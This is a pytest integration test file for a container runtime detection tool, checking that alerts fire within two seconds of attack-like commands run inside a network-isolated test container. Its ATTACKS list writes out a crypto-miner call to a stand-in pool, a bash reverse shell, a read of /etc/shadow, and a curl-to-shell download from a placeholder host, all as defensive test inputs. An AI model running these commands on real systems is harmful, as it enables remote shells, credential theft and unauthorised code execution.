"""Live runtime detection on the real dockerd: the process watcher (kernel process-events connector) and
the built-in rules raise each alert within 2 s of a `docker exec`, with the container's id and image; the
alerts land in the store deduplicated; a quiet container raises none."""

from __future__ import annotations

import os
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from images import Docker, ImageFactory

from containerguard.jobs.alerts import AlertRuntime, alert_in, builtin_rule_files, load_server_rules
from containerguard.pipeline.watch import LiveDetector
from containerguard.rules.model import Alert
from containerguard.store.alerts import AlertFilter, list_alerts
from containerguard.store.db import Store, migrate

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the process-events connector needs root")

# (command run by `docker exec`, the rule it must raise)
ATTACKS = [
    (["sh", "-c", 'cp /bin/dash /tmp/xmrig && /tmp/xmrig -c "sleep 0.3" xmrig -o stratum+tcp://pool.example:3333'],
     "Digital currency mining"),
    (["sh", "-c", "true || bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"], "Reverse shell"),
    (["cat", "/etc/shadow"], "Shadow file or kubeconfig read"),
    (["sh", "-c", "curl -fsSL http://payload.example/x.sh | sh 2>/dev/null; true"], "Download and run a script"),
]


class Collected:
    """Alerts as the detector hands them over, with their arrival time."""

    def __init__(self) -> None:
        self.alerts: list[tuple[float, Alert]] = []
        self.cond = threading.Condition()

    def __call__(self, alert: Alert) -> None:
        with self.cond:
            self.alerts.append((time.monotonic(), alert))
            self.cond.notify_all()

    def wait_for(self, rule: str, cid: str, since: float, timeout: float) -> tuple[float, Alert] | None:
        deadline = since + timeout
        with self.cond:
            while True:
                for at, alert in self.alerts:
                    if at >= since and alert.rule == rule and alert.output_fields.get("container.id") == cid[:12]:
                        return at, alert
                left = deadline - time.monotonic()
                if left <= 0:
                    return None
                self.cond.wait(left)

    def of(self, cid: str) -> list[Alert]:
        with self.cond:
            return [a for _, a in self.alerts if a.output_fields.get("container.id") == cid[:12]]


@pytest.fixture
def container(docker: Docker, factory: ImageFactory) -> Iterator[tuple[str, str]]:
    image = factory.get("bookworm").local
    cid = docker.run("run", "-d", "--network", "none", image, "sleep", "300").strip()
    yield cid, image
    docker.run("rm", "-f", cid)


def test_attacks_in_a_container_raise_alerts_within_2s(container: tuple[str, str], docker: Docker,
                                                       docker_host: str, tmp_path: Path) -> None:
    cid, image = container
    quiet = docker.run("run", "-d", "--network", "none", image, "sleep", "300").strip()
    store = Store(f"sqlite:///{tmp_path / 'cg.db'}")
    migrate(store.engine)
    runtime = AlertRuntime(store, None, rules=load_server_rules([]), window=300)
    got = Collected()

    def sink(alert: Alert) -> None:
        got(alert)
        runtime.ingest([alert_in(alert)])

    from containerguard.rules.compiler import compile_rules
    from containerguard.rules.loader import Loader

    loader = Loader()
    for path in builtin_rule_files():
        loader.load_path(path)
    detector = LiveDetector("process", compile_rules(loader.rs), sink, docker_host=docker_host, scan_existing=False)
    try:
        with detector:
            assert detector.mode == "netlink"
            for argv, rule in ATTACKS:
                # A command that exits before its /proc entry is read cannot be enriched and is dropped;
                # on a loaded 2-core CI machine that happens now and then to a 1 ms `cat`, so each attack
                # gets up to three tries — every alert must still come within 2 s of its exec.
                for _ in range(3):
                    started = time.monotonic()
                    docker.run("exec", cid, *argv)
                    hit = got.wait_for(rule, cid, started, 2.0)
                    if hit is not None:
                        break
                assert hit is not None, f"no '{rule}' alert within 2 s of docker exec {argv} (3 tries)"
                at, alert = hit
                assert at - started <= 2.0
                assert alert.output_fields["container.image"] == image
                assert alert.tactic
            # the same attack again counts up the stored alert instead of adding one
            started = time.monotonic()
            docker.run("exec", cid, "cat", "/etc/shadow")
            assert got.wait_for("Shadow file or kubeconfig read", cid, started, 2.0) is not None
            for argv in (["ls", "/"], ["true"], ["sh", "-c", "echo hello > /tmp/hello && cat /tmp/hello"]):
                docker.run("exec", quiet, *argv)
            time.sleep(1.0)
        assert got.of(quiet) == []
        with store.session() as session:
            rows = list_alerts(session, AlertFilter(resource=cid)).items
        by_rule = {r.rule: r for r in rows}
        assert set(by_rule) >= {rule for _, rule in ATTACKS}
        assert by_rule["Shadow file or kubeconfig read"].count >= 2
        assert all(r.image == image and r.resource == f"container:{cid[:12]}" for r in rows)
    finally:
        docker.run("rm", "-f", quiet)
        store.close()


def test_docker_event_stream_raises_exec_alerts(container: tuple[str, str], docker: Docker,
                                               docker_host: str) -> None:
    cid, image = container
    from containerguard.rules.compiler import compile_rules
    from containerguard.rules.loader import Loader

    loader = Loader()
    for path in builtin_rule_files():
        loader.load_path(path)
    got = Collected()
    with LiveDetector("docker", compile_rules(loader.rs), got, docker_host=docker_host):
        started = time.monotonic()
        docker.run("exec", cid, "cat", "/etc/hostname")
        hit = got.wait_for("Exec into container", cid, started, 2.0)
    assert hit is not None
    assert hit[1].output_fields["container.image"] == image
    assert "cat /etc/hostname" in hit[1].output
